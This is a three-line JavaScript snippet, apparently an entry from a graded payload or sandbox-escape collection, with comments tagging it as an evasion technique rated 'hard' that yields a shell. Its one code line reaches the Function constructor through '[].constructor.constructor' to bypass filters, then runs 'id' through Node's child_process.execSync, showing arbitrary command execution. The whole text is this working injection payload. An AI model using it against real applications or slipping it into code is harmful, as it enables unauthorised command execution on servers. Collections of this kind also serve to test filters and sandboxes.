// evasion: [].constructor.constructor
// grade: hard; does: shell
[].constructor.constructor("return require('child_process').execSync('id')")();
